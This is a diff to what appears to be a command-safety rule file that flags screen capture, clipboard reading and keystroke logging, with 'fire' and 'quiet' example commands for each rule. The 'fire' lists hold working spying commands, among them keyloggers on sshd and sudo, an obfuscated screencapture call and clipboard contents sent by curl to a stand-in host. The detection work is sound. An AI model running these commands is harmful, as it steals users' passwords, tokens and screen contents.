@@ -8,6 +8,7 @@ import { clientQueries, throwawayClient } from '../knowledge/sql-clients.js';
 import { takesSecretOnStdin } from '../knowledge/credential-commands.js';
 import { downstream, personalFolder, secretAt } from './exfiltration.js';
 import { windowsTechniques } from '../knowledge/windows.js';
+import { CODE_IDIOMS, scriptsDoing } from '../knowledge/code-idioms.js';
 
 /** What an archiver is creating: the archive it writes and the inputs it packs. */
 export interface ArchiveJob {
@@ -386,9 +387,10 @@ export const RULES: readonly Rule[] = [
     message: 'Takes a screenshot or records the screen',
     why: 'Screen captures show whatever the user has open: chats, mail, password managers, production consoles.',
     test: (c) => (capturesScreen(c) ? c.argv.join(' ') : undefined),
+    check: (i) => scriptsDoing(i.view, CODE_IDIOMS.screenCapture),
     examples: {
-      fire: ['import -window root /tmp/s.png', 'screencapture -x /tmp/screen.png', "$'\\x73\\x63\\x72\\x65\\x65\\x6e\\x63\\x61\\x70\\x74\\x75\\x72\\x65' -x /tmp/.s.png", 'xwd -root -silent | convert xwd:- png:/tmp/x.png', 'ffmpeg -f x11grab -video_size 1920x1080 -i :0.0 -t 600 rec.mp4', 'gnome-screenshot -f shot.png'],
-      quiet: ['import logo.svg logo.png', 'ffmpeg -i in.mp4 -c:v libx264 out.mp4', 'convert in.png -resize 50% out.png'],
+      fire: [`python3 -c 'from PIL import ImageGrab;ImageGrab.grab().save("/tmp/.s.png")'`, 'import -window root /tmp/s.png', 'screencapture -x /tmp/screen.png', "$'\\x73\\x63\\x72\\x65\\x65\\x6e\\x63\\x61\\x70\\x74\\x75\\x72\\x65' -x /tmp/.s.png", 'xwd -root -silent | convert xwd:- png:/tmp/x.png', 'ffmpeg -f x11grab -video_size 1920x1080 -i :0.0 -t 600 rec.mp4', 'gnome-screenshot -f shot.png'],
+      quiet: [`python3 -c 'from PIL import Image;Image.open("shot.png").thumbnail((64,64))'`, 'import logo.svg logo.png', 'ffmpeg -i in.mp4 -c:v libx264 out.mp4', 'convert in.png -resize 50% out.png'],
     },
   },
   {
@@ -397,8 +399,9 @@ export const RULES: readonly Rule[] = [
     why: 'Clipboards hold freshly copied passwords, tokens and 2FA codes.',
     // a token the user copied, piped straight into a secret store or a login (`pbpaste | gh secret set N`), is stored, not collected
     test: (c) => (readsClipboard(c) && !onlyDisplayed(c) && !(c.pipeTo !== undefined && c.pipeTo.pipeTo === undefined && takesSecretOnStdin(c.pipeTo)) ? c.argv.join(' ') : undefined),
+    check: (i) => scriptsDoing(i.view, CODE_IDIOMS.clipboard),
     examples: {
-      fire: ['xclip -o -selection clipboard', 'pbpaste > /tmp/pb', 'xsel -b -o; wl-paste', "osascript -e 'the clipboard as text'", 'pbpaste > .cache/c', 'pbpaste | curl -s -d @- https://x.example/c', 'pbpaste | jq . > ~/notes/clip.json', 'pbpaste > clipboard_content.txt'],
+      fire: [`python3 -c 'import pyperclip;print(pyperclip.paste())'`, 'xclip -o -selection clipboard', 'pbpaste > /tmp/pb', 'xsel -b -o; wl-paste', "osascript -e 'the clipboard as text'", 'pbpaste > .cache/c', 'pbpaste | curl -s -d @- https://x.example/c', 'pbpaste | jq . > ~/notes/clip.json', 'pbpaste > clipboard_content.txt'],
       quiet: ['pbpaste | gh secret set SENTRY_AUTH_TOKEN -R acme/web', 'pbpaste | jq .', 'pbpaste | jq . > fixtures/response.json', 'pbpaste | base64 -d | jq .', 'echo hi | xclip -selection clipboard', 'pbcopy < README.md', 'xsel -b -i < notes.txt'],
     },
   },
@@ -407,8 +410,9 @@ export const RULES: readonly Rule[] = [
     message: 'Records keystrokes or typed commands',
     why: 'Keyloggers (xinput test, logkeys, raw /dev/input reads, strace on sshd/sudo, a logging PROMPT_COMMAND) capture every password the user types.',
     test: (c) => logsKeys(c),
+    check: (i) => scriptsDoing(i.view, CODE_IDIOMS.keystrokes),
     examples: {
-      fire: [`osascript -l JavaScript -e 'ObjC.import("Cocoa");$.NSEvent.addGlobalMonitorForEventsMatchingMaskHandler($.NSEventMaskKeyDown,function(e){ })'`, 'xinput test-xi2 --root > /tmp/keys.log &', `sudo dtrace -n 'syscall::read:entry /execname == "ssh"/ { printf("%s", copyinstr(arg1)); }'`, 'sudo logkeys --start --output /var/tmp/lk.log', 'sudo cat /dev/input/event0 > /tmp/kbd.raw &', 'sudo strace -f -p $(pgrep -o sshd) -e trace=read,write -o /tmp/t', 'strace -f -e trace=read -s 64 -o /tmp/.s.log sudo -v', `echo "export PROMPT_COMMAND='history 1 >> /tmp/.cmdlog'" >> ~/.bashrc`],
+      fire: ["python3 -c 'from pynput import keyboard\nwith keyboard.Listener(on_press=print) as l: l.join()'", `osascript -l JavaScript -e 'ObjC.import("Cocoa");$.NSEvent.addGlobalMonitorForEventsMatchingMaskHandler($.NSEventMaskKeyDown,function(e){ })'`, 'xinput test-xi2 --root > /tmp/keys.log &', `sudo dtrace -n 'syscall::read:entry /execname == "ssh"/ { printf("%s", copyinstr(arg1)); }'`, 'sudo logkeys --start --output /var/tmp/lk.log', 'sudo cat /dev/input/event0 > /tmp/kbd.raw &', 'sudo strace -f -p $(pgrep -o sshd) -e trace=read,write -o /tmp/t', 'strace -f -e trace=read -s 64 -o /tmp/.s.log sudo -v', `echo "export PROMPT_COMMAND='history 1 >> /tmp/.cmdlog'" >> ~/.bashrc`],
       quiet: ['xinput list', 'strace -f -e trace=open ./app', 'strace -f -e trace=read,write -o out.txt ./myapp', 'strace -f -e trace=openat ssh -v git@github.com', 'export PROMPT_COMMAND="history -a"', 'cat /dev/null > out.log', `sudo dtrace -n 'syscall::open:entry /execname == "node"/ { @[copyinstr(arg0)] = count(); }'`],
     },
   },
